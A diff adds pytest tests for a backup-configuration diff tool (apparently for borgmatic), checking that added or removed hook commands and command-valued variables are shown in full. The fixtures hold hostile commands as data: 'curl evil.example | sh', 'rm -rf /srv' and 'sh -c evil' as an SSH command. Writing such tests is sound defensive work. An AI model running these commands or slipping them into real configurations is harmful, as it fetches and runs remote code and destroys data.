@@ -324,3 +324,43 @@ def test_an_option_that_no_action_of_either_side_takes_is_an_error(prepared: Pla
     assert "--archive is for" in ran.err
     of_one = ("-a", "create", "--against-actions", "list", "--archive", "latest", "--comment", "x")
     assert prepared.run("diff", *sides, *of_one).code == 0
+
+
+# --- nothing that will run is folded away ---
+
+HIDING = "before_backup:\n  - |\n    echo fine\n    curl evil.example | sh\n\n    echo more\n"
+
+
+@pytest.mark.parametrize("form", ["text", "json", "markdown"])
+@pytest.mark.parametrize("way", ["added", "removed"])
+def test_every_line_of_a_hook_that_comes_or_goes(place: Place, form: str, way: str) -> None:
+    place.write("less.yaml", FLAT)
+    place.write("more.yaml", f"{FLAT}{HIDING}")
+    sides = ("less.yaml", "more.yaml") if way == "added" else ("more.yaml", "less.yaml")
+    out = place.run("diff", "--format", form, *sides).out
+    assert "curl evil.example | sh" in out
+    assert "echo more" in out
+    assert "before_backup `echo fine ...`" in out
+
+
+def test_hooks_that_begin_alike_are_not_taken_for_one(place: Place) -> None:
+    place.write("less.yaml", FLAT)
+    place.write("more.yaml", f"{FLAT}{HIDING}  - |\n    echo fine\n    rm -rf /srv\n")
+    out = place.run("diff", "less.yaml", "more.yaml").out
+    assert "2 changes: 2 added" in out
+    assert "+ curl evil.example | sh\n" in out
+    assert "+ rm -rf /srv\n" in out
+
+
+def test_what_a_new_command_of_borg_is_given(place: Place) -> None:
+    """The words, and the variables that are commands."""
+    place.write("less.yaml", f"{FLAT}skip_actions: [prune]\n")
+    rsh = "ssh_command: sh -c evil\nencryption_passcommand: cat /a\n"
+    place.write("more.yaml", f"{FLAT}{rsh}")
+    place.write("two.yaml", f"{FLAT}{rsh}".replace("path: repo}", "path: repo}, {path: more}"))
+    out = place.run("diff", "-a", "create,prune", "less.yaml", "more.yaml").out
+    assert "+ borg prune --keep-daily 1" in out
+    assert "+ environment BORG_RSH='sh -c evil'\n" in out
+    out = place.run("diff", "-a", "create,prune", "more.yaml", "two.yaml").out
+    assert out.count("+ environment BORG_RSH='sh -c evil'\n") == 1
+    assert "+ environment BORG_PASSCOMMAND='cat /a'\n" in out
